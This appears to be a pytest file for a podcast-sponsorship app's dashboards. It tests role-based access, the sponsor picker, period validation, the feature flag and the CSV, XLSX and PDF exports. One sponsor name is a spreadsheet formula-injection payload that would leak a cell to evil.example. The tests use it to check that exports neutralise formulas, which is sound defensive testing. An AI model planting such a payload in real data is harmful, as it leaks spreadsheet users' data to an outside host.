"""The dashboards' pages over HTTP as a browser sends them: who opens which, the advertiser's own sponsor (and the
picker for everyone else), the period form, the flag, every card's figures with their notes, its charts and its
downloads: CSV with formula-like text neutralised, XLSX read back with openpyxl, the whole dashboard as XLSX and PDF."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import uuid
from dataclasses import dataclass
from datetime import timedelta

import httpx
import pytest
from markupsafe import escape
from openpyxl import load_workbook

from podsponsor.dashboards.card_view import dashboard_views
from podsponsor.dashboards.schemas import Dashboard
from podsponsor.db.engine import Database
from tests.bookings.booking_world import signed_in
from tests.bookings.delivery_world import book, downloads, show
from tests.dashboards.world import TODAY, card, dashboard, table
from tests.factories.identity import Tenant, make_tenant

FLAG = "/api/v1/feature-flags/ENABLE_NEW_DASHBOARD_CARDS"
EVIL_SPONSOR = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
AT_SHOW = "@Home Radio"
CARDS = {
    "creator": ("pacing", "sponsor_revenue", "makegoods", "downloads_trend", "episode_lifecycle"),
    "advertiser": ("audience_fit", "projected_cpm", "inventory", "campaign_results"),
    "ops": ("pipeline_forecast", "win_loss", "etl_health", "measurement_health", "attribution_health"),
}


@dataclass
class World:
    evil_sponsor: str
    own_sponsor: str
    rival_sponsor: str
    evil_io: str
    rival_io: str


@pytest.fixture(scope="module")
def tenant(server: str) -> Tenant:
    return make_tenant(server, roles=("owner", "creator", "ops", "sales", "advertiser"))


@pytest.fixture(scope="module")
async def world(db: Database, tenant: Tenant) -> World:
    tenant_id = uuid.UUID(tenant.id)
    with tenant.client("advertiser") as api:
        own = api.get("/api/v1/sponsors").json()["items"][0]["id"]
    with tenant.client("owner") as api:
        evil = api.post("/api/v1/sponsors", json={"name": EVIL_SPONSOR, "industry": "retail"}).json()["id"]
        rival = api.post("/api/v1/sponsors", json={"name": "Rival Beds", "industry": "sleep"}).json()["id"]
    shows = await show(tenant_id, [TODAY - timedelta(days=6), TODAY - timedelta(days=2)], title=AT_SHOW)
    for day, count in ((6, 30), (5, 20), (2, 50), (1, 40)):
        await downloads(tenant_id, shows, 0 if day > 2 else 1, TODAY - timedelta(days=day), count)
    flight = (TODAY - timedelta(days=6), TODAY + timedelta(days=8))
    booked = await book(tenant_id, shows, *flight, placed=[0], sponsor_id=uuid.UUID(evil), goal=400)
    await book(tenant_id, shows, *flight, placed=[1], sponsor_id=uuid.UUID(own), goal=300, industry="Software")
    rival_order = await book(tenant_id, shows, *flight, sponsor_id=uuid.UUID(rival), goal=200, industry="Bedding")
    return World(evil, own, rival, str(booked.io), str(rival_order.io))


def _get(client: httpx.Client, path: str, status: int = 200, /, **params: str) -> httpx.Response:
    response = client.get(path, params=params)
    assert response.status_code == status, (path, response.status_code, response.text[:500])
    return response


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def test_each_role_opens_the_dashboards_meant_for_it(server: str, tenant: Tenant, world: World) -> None:
    expected = {
        "owner": {"creator": 200, "ops": 200, "advertiser": 200},
        "creator": {"creator": 200, "ops": 403, "advertiser": 403},
        "ops": {"creator": 403, "ops": 200, "advertiser": 200},
        "sales": {"creator": 403, "ops": 403, "advertiser": 403},
        "advertiser": {"creator": 403, "ops": 403, "advertiser": 200},
    }
    first = {"owner": "creator", "creator": "creator", "ops": "ops", "advertiser": "advertiser"}
    for role, answers in expected.items():
        with signed_in(server, tenant, role) as client:
            for kind, status in answers.items():
                named = {"sponsor_id": world.own_sponsor} if kind == "advertiser" and role != "advertiser" else {}
                _get(client, f"/dashboard/{kind}", status, **named)
                _get(client, f"/dashboard/{kind}/cards/{CARDS[kind][0]}.csv", status, **named)
            home = _get(client, "/dashboard", 303 if role in first else 403)
            if role in first:
                assert home.headers["location"] == f"/dashboard/{first[role]}"
            nav = _get(client, "/").text
            assert ('href="/dashboard"' in nav) == (role in first), role


def test_anonymous_visitors_are_sent_to_sign_in(server: str, world: World) -> None:
    with httpx.Client(base_url=server, headers={"Accept": "text/html"}) as client:
        response = client.get("/dashboard/creator?from=2026-01-01")
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login?next=/dashboard/creator")


def test_the_creator_page_shows_every_card_with_notes_charts_and_downloads(
    server: str, tenant: Tenant, world: World
) -> None:
    with signed_in(server, tenant, "creator") as client:
        response = _get(client, "/dashboard/creator")
        with tenant.client("creator") as api:
            body = dashboard(api, "creator")
    page = response.text
    assert "unsafe-inline" not in response.headers["content-security-policy"]
    assert "<script>" not in page and " style=" not in page and "onclick" not in page
    query = f"from={body['start']}&amp;to={body['end']}"
    assert f'value="{body["start"]}"' in page and f'value="{body["end"]}"' in page
    for card_id in CARDS["creator"]:
        assert f'data-card="{card_id}"' in page, card_id
        assert f'href="/dashboard/creator/cards/{card_id}.csv?{query}"' in page
        assert f'href="/dashboard/creator/cards/{card_id}.xlsx?{query}"' in page
    assert f'href="/dashboard/creator.xlsx?{query}"' in page and f'href="/dashboard/creator.pdf?{query}"' in page
    pacing = card(body, "pacing")
    delivered = next(f for f in pacing["figures"] if f["label"] == "Delivered")
    figure = re.search(
        r'<div class="figure" tabindex="0" title="([^"]*)" data-figure="Delivered">\s*<dt>Delivered</dt>\s*'
        r'<dd class="figure__value">([^<]*)</dd>\s*<dd class="figure__note">([^<]*)</dd>',
        page,
    )
    assert figure is not None
    assert html.unescape(figure.group(1)) == html.unescape(figure.group(3)) == delivered["note"].rstrip(".")
    assert figure.group(2) == f"{delivered['value']:,}"
    for chart_id in ("pacing-chart-1", "pacing-chart-2", "pacing-chart-3", "downloads-trend-chart"):
        assert f'<figure class="chart" id="{chart_id}" data-chart>' in page, chart_id
    assert 'id="pacing-chart-4"' not in page
    # Every order is in the table, its number leading to its delivery.
    assert f'<a href="/io/{world.evil_io}/delivery">' in page
    assert str(escape(EVIL_SPONSOR)) in page
    assert 'href="/dashboard"' in page and 'aria-current="page">Dashboard</a>' in page


def _first_pacing_chart(page: str) -> str:
    found = re.search(r'<script type="application/json" id="pacing-chart-1-spec">(.*?)</script>', page)
    assert found is not None
    return str(json.loads(found.group(1))["title"])


@pytest.mark.parametrize("kind", ["creator", "advertiser", "ops"])
def test_the_page_embeds_the_chart_specs_the_pdf_draws(server: str, tenant: Tenant, world: World, kind: str) -> None:
    named = {"sponsor_id": world.own_sponsor} if kind == "advertiser" else {}
    with signed_in(server, tenant, "owner") as client:
        page = _get(client, f"/dashboard/{kind}", **named).text
        with tenant.client("owner") as api:
            found = Dashboard.model_validate(dashboard(api, kind, **named))
    embedded = {
        chart_id: json.loads(spec)
        for chart_id, spec in re.findall(r'<script type="application/json" id="([^"]+)-spec">(.*?)</script>', page)
    }
    built = {chart.id: chart.spec for view in dashboard_views(found) for chart in view.charts}
    assert built and embedded == json.loads(json.dumps(built))


def test_the_pacing_charts_put_the_order_furthest_behind_or_the_chosen_one_first(
    server: str, tenant: Tenant, world: World
) -> None:
    with signed_in(server, tenant, "owner") as client:
        behind = _get(client, "/dashboard/creator").text
        chosen = _get(client, "/dashboard/creator", io=world.rival_io).text
    assert EVIL_SPONSOR in _first_pacing_chart(behind)
    assert "Rival Beds" in _first_pacing_chart(chosen)
    # Every live order has its chart already: nothing to choose from.
    assert 'name="io"' not in behind


def test_an_advertiser_sees_only_its_own_sponsor(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "advertiser") as client:
        page = _get(client, "/dashboard/advertiser").text
        assert 'name="sponsor_id"' not in page
        for card_id in CARDS["advertiser"]:
            assert f'data-card="{card_id}"' in page
        assert f"sponsor_id={world.own_sponsor}" in page
        _get(client, "/dashboard/advertiser", 404, sponsor_id=world.rival_sponsor)
        _get(client, "/dashboard/advertiser/cards/campaign_results.csv", 404, sponsor_id=world.rival_sponsor)
        _get(client, "/dashboard/advertiser.xlsx", 404, sponsor_id=world.rival_sponsor)
        results = _rows(_get(client, "/dashboard/advertiser/cards/campaign_results.csv").content)
    assert len(results) == 2 and results[0][:2] == ["Campaign id", "Campaign"]
    with tenant.client("advertiser") as api:
        assert (
            table(card(dashboard(api, "advertiser"), "campaign_results"), "campaigns")[0]["campaign_id"]
            == (results[1][0])
        )


def test_other_roles_pick_the_advertiser(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "ops") as client:
        picking = _get(client, "/dashboard/advertiser").text
        assert "data-choose-sponsor" in picking and "data-card=" not in picking
        for sponsor_id in (world.own_sponsor, world.rival_sponsor, world.evil_sponsor):
            assert f'<option value="{sponsor_id}">' in picking
        chosen = _get(client, "/dashboard/advertiser", sponsor_id=world.rival_sponsor).text
        assert f'<option value="{world.rival_sponsor}" selected>' in chosen
        assert "<span data-sponsor>Rival Beds</span>" in chosen
        assert f"sponsor_id={world.rival_sponsor}" in chosen
        _get(client, "/dashboard/advertiser/cards/inventory.csv", 422)
        _get(client, "/dashboard/advertiser", 404, sponsor_id="not-an-id")
        _get(client, "/dashboard/advertiser", 404, sponsor_id=str(uuid.uuid4()))


def test_a_bad_period_is_shown_beside_its_field(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "creator") as client:
        backwards = _get(client, "/dashboard/creator", 422, **{"from": "2026-03-02", "to": "2026-03-01"}).text
        typo = _get(client, "/dashboard/creator", 422, **{"from": "2026-13-01"}).text
        too_long = _get(client, "/dashboard/creator", 422, **{"from": "2025-01-01", "to": "2026-01-02"}).text
        _get(client, "/dashboard/creator/cards/pacing.csv", 422, **{"from": "2026-03-02", "to": "2026-03-01"})
        chosen = _get(client, "/dashboard/creator", **{"from": "2026-01-01", "to": "2026-01-31"}).text
    assert 'id="period-from-error">From must not be after to.</p>' in backwards
    assert 'value="2026-03-02"' in backwards and "data-card=" not in backwards
    assert 'id="period-from-error">Give a day as YYYY-MM-DD.</p>' in typo and 'value="2026-13-01"' in typo
    assert 'id="period-to-error">A dashboard covers at most 366 days.</p>' in too_long
    assert "UTC days 2026-01-01 to 2026-01-31" in chosen
    assert 'href="/dashboard/creator/cards/pacing.csv?from=2026-01-01&amp;to=2026-01-31"' in chosen


def test_the_dashboards_are_hidden_while_the_flag_is_off(server: str, tenant: Tenant, world: World) -> None:
    with tenant.client("owner") as owner:
        assert owner.put(FLAG, json={"enabled": False}).status_code == 200
        try:
            with signed_in(server, tenant, "owner") as client:
                for path in ("/dashboard", "/dashboard/creator", "/dashboard/ops", "/dashboard/creator.xlsx",
                             "/dashboard/ops/cards/etl_health.csv", "/dashboard/creator.pdf"):  # fmt: skip
                    _get(client, path, 404)
                assert 'href="/dashboard"' not in _get(client, "/").text
        finally:
            assert owner.put(FLAG, json={"enabled": None}).status_code == 200
    with signed_in(server, tenant, "owner") as client:
        _get(client, "/dashboard/creator")


def test_a_cards_csv_neutralises_formulas_and_keeps_numbers(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "creator") as client:
        response = _get(client, "/dashboard/creator/cards/pacing.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "private, no-store"
    assert re.match(r'attachment; filename="dashboard-creator-pacing-orders-\d{4}-\d\d-\d\d-to-', response.headers[
        "content-disposition"])  # fmt: skip
    rows = _rows(response.content)
    assert rows[0] == ["Order id", "Order", "Sponsor", "Show", "Status", "Pacing mode", "Flight start", "Flight end",
                       "Goal", "Delivered", "Expected", "Pacing (%)"]  # fmt: skip
    evil = next(row for row in rows if row[0] == world.evil_io)
    assert evil[2] == "'" + EVIL_SPONSOR
    assert evil[3] == "'" + AT_SHOW
    assert evil[8] == "400" and int(evil[9]) == 30 + 20
    assert float(evil[11]) > 0
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert b"\r\n" in response.content


def test_a_cards_other_parts_come_as_csv_too(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "creator") as client:
        series = _rows(_get(client, "/dashboard/creator/cards/downloads_trend.csv").content)
        figures = _rows(_get(client, "/dashboard/creator/cards/pacing.csv", part="figures").content)
        revenue = _rows(_get(client, "/dashboard/creator/cards/sponsor_revenue.csv").content)
        _get(client, "/dashboard/creator/cards/pacing.csv", 404, part="nothing")
        _get(client, "/dashboard/creator/cards/no_such_card.csv", 404)
        _get(client, "/dashboard/creator/cards/pacing.json", 404)
        _get(client, "/dashboard/creator.docx", 404)
    assert series[0] == ["Series", "Group", "Day", "Value", "Currency"]
    assert len(series) == 1 + 30 and sum(int(row[3]) for row in series[1:]) == 140
    assert figures[0] == ["Figure", "Value", "Unit", "Currency", "Low (95 %)", "High (95 %)", "How computed"]
    assert [row[0] for row in figures[1:]] == ["Live orders", "Delivered", "Expected by now", "Pacing", "Behind"]
    assert figures[1][1] == "3" and figures[1][6] == "scheduled or active, flight in period"
    money = [row for row in revenue[1:] if row[1] == "'" + EVIL_SPONSOR]
    assert money and re.fullmatch(r"\d+\.\d\d", money[0][3]), money


def test_a_cards_xlsx_holds_its_rows(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "creator") as client:
        response = _get(client, "/dashboard/creator/cards/pacing.xlsx")
        with tenant.client("creator") as api:
            pacing = card(dashboard(api, "creator"), "pacing")
    orders, columns = table(pacing, "orders"), pacing["tables"][0]["columns"]
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Live orders", "Series", "Figures", "How computed"]
    sheet = book["Live orders"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("Order id", "Order", "Sponsor") and values[0][11] == "Pacing"
    assert len(values) == 1 + len(orders)
    by_id = {row[0]: row for row in values[1:]}
    for order in orders:
        row = by_id[order["io_id"]]
        assert row[8] == order["goal"] and row[9] == order["delivered"], row
        assert row[11] == pytest.approx(order["pacing_pct"] / 100)
    assert by_id[world.evil_io][2] == "'" + EVIL_SPONSOR
    assert sheet.cell(row=2, column=7).is_date and sheet.cell(row=2, column=12).number_format == "0.0%"
    notes = {row[1:3]: row[3] for row in book["How computed"].iter_rows(min_row=2, values_only=True)}
    assert notes[("Live orders", "Delivered")] == next(c["note"] for c in columns if c["key"] == "delivered")
    assert notes[("Live orders", "Pacing")].startswith("delivered ÷ expected")
    assert any(part == "Series" and "cumulative from the flight start" in note for (part, _), note in notes.items())


def test_the_whole_dashboard_as_xlsx_has_a_sheet_per_card(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "ops") as client:
        response = _get(client, "/dashboard/ops.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames[0] == "Figures" and book.sheetnames[-1] == "How computed"
    for name in ("Metrics imports", "Measurement", "Pipeline forecast · By expected c", "Win   loss · By seller"):
        assert any(sheet.startswith(name[:20]) for sheet in book.sheetnames), (name, book.sheetnames)
    figures = list(book["Figures"].iter_rows(values_only=True))
    assert figures[0][:3] == ("Card", "Figure", "Value")
    assert {"Win / loss", "Metrics imports", "Measurement", "Attribution"} <= {row[0] for row in figures[1:]}


def test_the_whole_dashboard_as_pdf_reads_as_the_page(server: str, tenant: Tenant, world: World) -> None:
    with signed_in(server, tenant, "ops") as client:
        response = _get(client, "/dashboard/advertiser.pdf", sponsor_id=world.own_sponsor, paper="letter")
        _get(client, "/dashboard/advertiser.pdf", 404, sponsor_id=world.own_sponsor, paper="a3")
    assert response.headers["content-type"] == "application/pdf" and response.content.startswith(b"%PDF")
    text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=response.content, capture_output=True, check=True)
    words = " ".join(text.stdout.decode().split())
    for part in ("Advertiser dashboard", "for Sponsor", "Audience fit", "Projected CPM", "Open inventory",
                 "Campaign results", "How computed", "Sell-through", "booked ÷ (booked + open) slots"):  # fmt: skip
        assert part in words, part
